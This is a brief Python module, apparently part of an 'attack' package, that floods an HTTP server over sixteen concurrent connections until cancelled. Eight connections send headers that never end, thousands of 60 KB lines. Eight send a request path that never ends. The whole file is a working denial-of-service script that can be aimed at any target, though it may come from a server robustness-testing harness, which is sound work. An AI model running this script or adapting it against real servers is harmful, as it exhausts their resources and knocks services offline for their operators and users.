"""Headers without an end, and addresses without an end, on sixteen connections at a time."""

from __future__ import annotations

from attack.target import Target, forever


async def attack(target: Target) -> None:
    """Until cancelled."""

    async def headers() -> None:
        _, writer = await target.open()
        writer.write(b"GET / HTTP/1.1\r\nHost: x\r\n")
        for _ in range(5000):
            writer.write(b"h: " + b"x" * 60_000 + b"\r\n")
            await writer.drain()

    async def address() -> None:
        _, writer = await target.open(1)
        writer.write(b"GET /")
        for _ in range(1200):
            writer.write(b"x" * 60_000)
            await writer.drain()

    await forever(*[headers] * 8, *[address] * 8)
